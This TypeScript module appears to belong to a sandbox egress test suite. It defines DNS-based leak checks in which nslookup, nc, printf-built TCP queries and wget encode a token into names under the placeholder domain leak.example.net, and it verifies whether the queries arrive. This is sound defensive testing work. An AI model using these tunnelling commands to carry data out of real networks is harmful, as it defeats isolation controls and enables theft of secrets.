import { type Attack, commandAttack } from "../attack.ts";
import { client, type Ran, sh } from "../place.ts";
import { AT, PORTS } from "../plan.ts";
import type { Arrival } from "../witness.ts";

/** A look-up that leads nowhere has to fail well before a program gives it up. */
const AT_ONCE_MS = 3_000;

/** What was asked is what is in the name. */
const SUFFIX = ".leak.example.net";

function asks(arrivals: readonly Arrival[], token: string): boolean {
  return arrivals.some(({ kind, text }) =>
    kind === "query" && text.includes(token)
  );
}

function failsAtOnce({ durationMs }: Ran): void {
  if (durationMs < AT_ONCE_MS) return;
  throw new Error(`the look-up took ${Math.round(durationMs)} ms to fail`);
}

/** Bytes of a question over TCP, for `printf`. */
function tcpQuestion(name: string): string {
  const labels = name.split(".").flatMap((label) => [
    label.length,
    ...new TextEncoder().encode(label),
  ]);
  const question = [0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...labels];
  question.push(0, 0, 1, 0, 1);
  return [0, question.length, ...question]
    .map((byte) => `\\${byte.toString(8).padStart(3, "0")}`).join("");
}

function look(
  name: string,
  line: (host: string) => string,
  isQuick = true,
): Attack {
  return commandAttack({
    name,
    lesson: 36,
    run: (place, token) => sh(place, line(token + SUFFIX)),
    reaches: asks,
    ...(isQuick && { check: failsAtOnce }),
  });
}

/** Looking names up, which is a way out by itself. */
export function dnsAttacks(): Attack[] {
  return [
    look("DNS at 127.0.0.11", (name) => `nslookup ${name} 127.0.0.11`),
    look("DNS at the resolver", (name) => `nslookup ${name} ${AT.resolver}`),
    look("DNS as the system has it", (name) => `nslookup ${name}`),
    look("DNS as programs have it", (name) => `nc -w 3 ${name} 80`),
    look(
      "DNS at the resolver, over TCP",
      (name) =>
        `printf '${
          tcpQuestion(name)
        }' | timeout 5 nc ${AT.resolver} ${PORTS.dns}`,
    ),
    commandAttack({
      name: "DNS by a client of its own",
      lesson: 36,
      run: (place, token) =>
        client(place, "resolve", [token + SUFFIX, AT.resolver, "127.0.0.11"]),
      reaches: asks,
    }),
    commandAttack({
      name: "data in a name that the proxy is asked for",
      run: (place, token) =>
        sh(place, `timeout 5 wget -q -O - http://${token}${SUFFIX}/`),
      reaches: asks,
      record: [["not_allowed"]],
    }),
  ];
}
